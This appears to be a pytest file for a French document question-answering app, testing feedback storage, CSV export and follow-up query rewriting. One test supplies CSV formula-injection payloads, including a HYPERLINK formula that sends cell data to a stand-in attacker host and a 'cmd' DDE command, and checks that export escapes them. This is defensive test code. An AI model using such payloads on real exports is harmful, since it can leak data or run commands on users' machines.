import csv
import io
import stat

import pytest

from app.conversation import retrieval_query
from app.feedback import FeedbackStore
from docqa.schema import Answer, Citation

ANSWER = Answer(
    question="Combien d'emplois ?",
    answer="Environ 5 000 emplois [1]",
    abstained=False,
    citations=[Citation(n=1, doc_id="etude", title="Étude", page=2, quote="5 000 emplois", score=1.0, chunk_id="c")],
)


def test_feedback_is_stored_durably_and_exported(tmp_path):
    store = FeedbackStore(tmp_path / "data" / "feedback.sqlite")
    store.add(ANSWER, 1, "  précis  ")
    store.add(ANSWER, 0)
    again = FeedbackStore(tmp_path / "data" / "feedback.sqlite")  # a new process would see the same rows
    rows = again.rows()
    assert [(r["rating"], r["comment"]) for r in rows] == [(1, "précis"), (0, "")]
    assert '"doc_id": "etude"' in rows[0]["citations"] and rows[0]["time"]
    exported = list(csv.DictReader(io.StringIO(again.to_csv())))
    assert exported[0]["question"] == "Combien d'emplois ?" and exported[1]["rating"] == "0"
    with pytest.raises(ValueError, match="rating must be 0 or 1"):
        store.add(ANSWER, 5)


def test_csv_export_escapes_formulas_and_files_are_private(tmp_path):
    store = FeedbackStore(tmp_path / "data" / "feedback.sqlite")
    hostile = ANSWER.model_copy(update={"question": '=HYPERLINK("http://attacker.invalid/?q="&A1)'})
    store.add(hostile, 1, "+cmd|' /C calc'!A0")
    store.add(ANSWER.model_copy(update={"question": "@SUM(1)"}), 0, "-2+3")
    exported = list(csv.DictReader(io.StringIO(store.to_csv())))
    assert [r["question"] for r in exported] == ['\'=HYPERLINK("http://attacker.invalid/?q="&A1)', "'@SUM(1)"]
    assert [r["comment"] for r in exported] == ["'+cmd|' /C calc'!A0", "'-2+3"]
    assert exported[0]["rating"] == "1"  # numbers untouched
    assert stat.S_IMODE((tmp_path / "data").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "data" / "feedback.sqlite").stat().st_mode) == 0o600


@pytest.mark.parametrize(
    "question, expected",
    [
        ("Et en 2030 ?", "Combien d'emplois d'ici 2025 ? Et en 2030 ?"),
        ("and for startups?", "Combien d'emplois d'ici 2025 ? and for startups?"),
        ("Quel budget pour le Health Data Hub en 2020 ?", "Quel budget pour le Health Data Hub en 2020 ?"),
    ],
)
def test_follow_up_questions_use_the_previous_one(question, expected):
    assert retrieval_query(question, ["Combien d'emplois d'ici 2025 ?"]) == expected
    assert retrieval_query(question, []) == question
